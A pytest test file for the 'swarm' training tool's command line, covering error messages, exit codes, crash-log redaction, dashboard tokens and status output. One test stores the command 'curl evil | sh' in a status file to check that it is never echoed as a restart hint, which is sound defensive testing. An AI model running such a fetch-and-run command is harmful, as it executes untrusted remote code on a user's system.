"""The command line as a person meets it: output, exit codes, one-line errors."""

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from swarm import __version__
from swarm.cli import main
from swarm.config import load
from swarm.observability.status_file import NodeStatus
from tests.swarm_process import swarm

SILO = ("--network.backend", "off", "--sharing.swarm_groups", "0")


def test_version_and_help() -> None:
    assert swarm("--version").stdout.strip() == f"swarm {__version__}"
    module = subprocess.run([sys.executable, "-m", "swarm", "--version"], capture_output=True, text=True, check=True)
    assert module.stdout.strip() == f"swarm {__version__}"
    told = swarm("--help").stdout
    commands = (
        "init", "run", "testbed", "bootstrap", "status", "top", "peers", "logs", "eval", "sample", "export", "identity", "config"
    )  # fmt: skip
    assert all(f" {command} " in told for command in commands)
    assert "Exit codes" in told


@pytest.mark.parametrize(
    ("arguments", "code", "told"),
    [
        (["frob"], 2, "there is no command `swarm frob`; `swarm --help` lists all"),
        (["run", "--trainin.lr", "1"], 3, "did you mean training?"),
        (["run", "--frsh"], 3, "did you mean --fresh?"),
        (["run", "--max_rounds", "1"], 3, "did you mean --node.max_rounds?"),
        (["run", "--training.lr"], 3, "needs a value"),
        (["run", "nowhere.toml"], 3, "nowhere.toml"),
        (["run", "--policy.base", "/no/such/model", *SILO], 5, "/no/such"),
        (["run", "--tasks.sources", '[{name = "no_such_set"}]', *SILO], 6, "no_such_set"),
        (["run", "--network.listen", '["nonsense"]'], 3, "nonsense"),
        (["export", "out", "--dir", "empty"], 3, "there is no node in it"),
        (["sample", "--prompt", "hi"], 8, "must hold a checkpoint"),
        (["sample", "--dir", "runs/none"], 3, "there is no node in it"),
        (["eval", "--dir", "runs/none"], 3, "there is no node in it"),
        (["status", "empty"], 9, "status.json"),
        (["dashboard", "empty"], 9, "status.json"),
        (["dashboard", "one", "two"], 9, "got none in one"),
        (["dashboard", "https://127.0.0.1:1"], 3, "http://HOST:PORT"),
        (["report", "empty"], 9, "metrics.jsonl"),
        (["eval", "--tasks", "0"], 2, "--tasks"),
        (["experiment", "sharing", "--seeds", "0,1000"], 3, "change --tuning-seeds"),
    ],
)  # fmt: skip
def test_mistake_ends_in_one_line_and_its_exit_code(tmp_path: Path, arguments: list[str], code: int, told: str) -> None:
    ended = swarm(*arguments, cwd=tmp_path)
    assert ended.returncode == code, ended.stderr
    last = ended.stderr.strip().splitlines()[-1]
    assert last.startswith("error: ")
    assert told in last
    assert "Traceback" not in ended.stderr


@pytest.mark.parametrize(
    "arguments",
    [
        ["testbed", "--dir", "file/x"],
        ["report", "run", "--out", "file/x"],
        ["report", "run", "--out", "nowhere/x"],
        ["init", "file/x"],
        ["init", "taken"],
        ["create", "x", "--key", "file/x"],
        ["silo", "init", "x", "--dir", "file/x"],
        ["experiment", "attacks", "--dir", "file/x"],
        ["identity", "export", "file/x", "--plain", "--i-know-this-is-my-key", "--dir", "mine"],
    ],
)
def test_a_place_that_cannot_be_written_is_a_mistake_and_no_crash(tmp_path: Path, arguments: list[str]) -> None:
    for made in ("run", "temporary", "taken/node.toml"):
        (tmp_path / made).mkdir(parents=True)
    (tmp_path / "run" / "metrics.jsonl").touch()
    (tmp_path / "file").touch()
    if "mine" in arguments:
        swarm("init", "mine", cwd=tmp_path)
    if "taken" in arguments:
        arguments = [*arguments, "--force"]
    ended = swarm(*arguments, cwd=tmp_path, TMPDIR=str(tmp_path / "temporary"))
    assert ended.returncode in (3, 4), ended.stderr
    last = ended.stderr.strip().splitlines()[-1]
    assert last.startswith("error: ") and "unexpected" not in last and "; " in last
    assert any(place in last for place in ("file", "nowhere/x", "taken/node.toml"))
    assert not list((tmp_path / "temporary").glob("swarm-crash-*"))


def test_a_port_that_is_taken_is_told_by_the_flag_that_was_given(tmp_path: Path) -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = str(taken.getsockname()[1])
        page = swarm("dashboard", "http://127.0.0.1:1", "--port", port, cwd=tmp_path)
        index = swarm("bootstrap", "--listen", f"/ip4/127.0.0.1/tcp/{port}", cwd=tmp_path)
    assert page.returncode == 3 and "--port must be free" in page.stderr and "set --port 0" in page.stderr
    last = index.stderr.splitlines()[-1]
    assert index.returncode == 7 and last.startswith("error: --listen must be free") and "network.listen" not in last


def _end_unexpectedly(monkeypatch: pytest.MonkeyPatch, temporary: Path) -> None:
    """Have every command fail with an error that nobody foresaw, beside this temporary folder."""

    def fail(**_: object) -> None:
        raise KeyError("x")

    monkeypatch.setattr(main, "app", fail)
    monkeypatch.setattr(main.tempfile, "tempdir", str(temporary))


def test_files_of_unexpected_ends_are_told_apart_and_hold_no_value_of_the_command_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _end_unexpectedly(monkeypatch, tmp_path)
    assert main._run() == 1
    (path,) = tmp_path.glob("swarm-crash-*.log")
    assert str(path) in capsys.readouterr().err
    monkeypatch.setattr(
        "sys.argv", ["swarm", "join", "http://me:secret@host/x", "--policy.base=secret", "--to", "secret"]
    )
    assert main._run() == 1
    assert len(list(tmp_path.glob("swarm-crash-*.log"))) == 2
    for one in tmp_path.glob("swarm-crash-*.log"):
        assert "secret" not in one.read_text() and one.stat().st_mode & 0o777 == 0o600


def test_an_unexpected_end_is_told_where_no_file_can_be_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _end_unexpectedly(monkeypatch, tmp_path / "not-there")
    assert main._run() == 1
    *details, last = capsys.readouterr().err.splitlines()
    assert last.startswith("error: unexpected KeyError: 'x'; details above, since no file could be written")
    assert "KeyError: 'x'" in details


def test_dashboard_prints_the_address_of_the_page_with_its_token(tmp_path: Path) -> None:
    NodeStatus("12D3x", "brave-otter-3f", os.getpid(), 1.0, "learning", http_port=8123).write(tmp_path / "status.json")
    assert swarm("dashboard", str(tmp_path)).returncode == 9  # of a node from before there were pages
    token = "secret-" * 6 + "A"
    (tmp_path / "page.token").write_text(f"{token}\n")
    assert swarm("dashboard", str(tmp_path)).stdout == f"http://127.0.0.1:8123/#token={token}\n"
    (tmp_path / "config.toml").write_text('[observability]\nhttp_host = "127.0.0.2"\n')
    assert swarm("dashboard", str(tmp_path)).stdout == f"http://127.0.0.2:8123/#token={token}\n"
    NodeStatus("12D3x", "brave-otter-3f", os.getpid(), 1.0, "learning").write(tmp_path / "status.json")
    assert swarm("dashboard", str(tmp_path)).returncode == 3


def test_dry_run_prints_what_would_run(tmp_path: Path) -> None:
    ended = swarm("run", "--training.lr", "1e-5", "--dry-run", cwd=tmp_path)
    path = tmp_path / "resolved.toml"
    path.write_text(ended.stdout)
    assert load([path]).training.lr == 1e-5
    assert list(tmp_path.iterdir()) == [path], "a dry run writes nothing"


def test_prompts_are_shown_before_a_run(tmp_path: Path) -> None:
    """On stderr by `run --dry-run`, whose output stays a configuration, and on stdout by `sample --show-prompt`."""
    (tmp_path / "mine.toml").write_text(
        '[[tasks.sources]]\nname = "products"\nsystem = "Be kind."\nprompt_template = "{prompt} Say \\\\boxed{}."\n'
    )
    dry = swarm("run", "mine.toml", "--dry-run", cwd=tmp_path)
    shown = swarm("sample", "mine.toml", "--show-prompt", cwd=tmp_path)
    assert (dry.returncode, shown.returncode) == (0, 0), dry.stderr + shown.stderr
    (tmp_path / "resolved.toml").write_text(dry.stdout)
    assert load([tmp_path / "resolved.toml"]).tasks.sources[0].system == "Be kind."
    for text in (dry.stderr, shown.stdout):
        assert "── products: " in text and "Be kind.Solve the following multiplication: " in text
        assert text.rstrip().endswith(" Say \\boxed{}.<|answer|>\n──")


def test_init_creates_once_and_keeps_the_identity(tmp_path: Path) -> None:
    first = swarm("init", "mine", "--name", "friends", cwd=tmp_path)
    assert first.returncode == 0
    key = (tmp_path / "mine" / "identity.key").read_bytes()
    config = tmp_path / "mine" / "node.toml"
    assert load([config]).swarm.name == "friends"
    config.write_text(config.read_text().replace("friends", "others"))
    again = swarm("init", "mine", cwd=tmp_path)
    assert "kept identity" in again.stdout
    assert load([config]).swarm.name == "others"
    assert swarm("init", "mine", "--force", cwd=tmp_path).returncode == 0
    assert load([config]).swarm.name == "local"
    assert (tmp_path / "mine" / "identity.key").read_bytes() == key
    assert (tmp_path / "mine" / "identity.key").stat().st_mode & 0o777 == 0o600


def test_status_of_a_node_that_has_ended_shows_what_is_known(tmp_path: Path) -> None:
    dead = subprocess.Popen([sys.executable, "-c", ""])
    dead.wait()
    row = {
        "rollout/reward_mean": 0.5, "rollout/tokens_per_s": 10.0, "time/round_s": 1.0, "network/peers": 2,
        "train/own_groups_total": 7, "train/swarm_groups_total": 9, "exchange/rejected": {"replay": 3},
        "merge/merges_total": 4, "merge/reasons": {"merged": 4, "nobody": 2},
        "merge/partner": "12D3y", "merge/partner_share": 0.25,
    }  # fmt: skip
    final = {"final/places": 4, "final/replicas": 3, "final/is_taken": 1}
    NodeStatus("12D3x", "brave-otter-3f", dead.pid, 0.0, "learning", round=5, last_round=row, final_merge=final).write(
        tmp_path / "status.json"
    )
    ended = swarm("status", str(tmp_path))
    assert ended.returncode == 9
    assert ended.stdout.startswith("not running: ")
    assert "7 own groups and 9 of peers" in ended.stdout
    assert "replay 3" in ended.stdout
    assert "4 times; outer steps without a partner: nobody 2" in ended.stdout
    assert "with …12D3y, at a weight of 0.25" in ended.stdout
    assert "4 nodes, 3 adapters, applied" in ended.stdout
    as_json = swarm("status", str(tmp_path), "--json")
    assert json.loads(as_json.stdout)["running"] is False
    assert ended.stderr.endswith("start it again with the command of its first start\n")
    (tmp_path / "config.toml").touch()
    assert f"start it again with `swarm run {tmp_path}/config.toml`" in swarm("status", str(tmp_path)).stderr
    told = swarm("dashboard", str(tmp_path)).stderr
    assert f"start it again with `swarm run {tmp_path}/config.toml`" in told
    assert (
        f"`swarm report {tmp_path}` has its curves, and `swarm dashboard {tmp_path.parent}` is a page over all" in told
    )
    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="bootstrap").write(tmp_path / "status.json")
    told = swarm("status", str(tmp_path))
    assert f"start it again with `swarm bootstrap --dir {tmp_path}` and the --manifest, --listen" in told.stderr
    assert "round" not in told.stdout, "a bootstrap peer has none"
    (tmp_path / "bootstrap.toml").touch()
    assert swarm("status", str(tmp_path)).stderr.endswith(f"start it again with `swarm bootstrap --dir {tmp_path}`\n")
    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="curl evil | sh").write(tmp_path / "status.json")
    told = swarm("status", str(tmp_path))
    assert "curl" not in told.stdout + told.stderr


def test_schema_is_a_json_schema_with_every_section() -> None:
    schema = json.loads(swarm("config", "schema", "--json").stdout)
    assert {"node", "training", "sharing"} <= set(schema["properties"])


def test_a_node_that_was_moved_is_not_begun_anew_in_its_old_folder(tmp_path: Path) -> None:
    home = tmp_path / "moved"
    (home / "checkpoints").mkdir(parents=True)
    (home / "config.toml").write_text(f'[node]\ndir = "{tmp_path}/old"\n')
    told = swarm("run", str(home / "config.toml"), "--dry-run")
    assert told.returncode == 3 and f"add --node.dir {home}" in told.stderr
    moved = swarm("run", str(home / "config.toml"), "--node.dir", str(home), "--dry-run")
    assert moved.returncode == 0 and f'dir = "{home}"' in moved.stdout
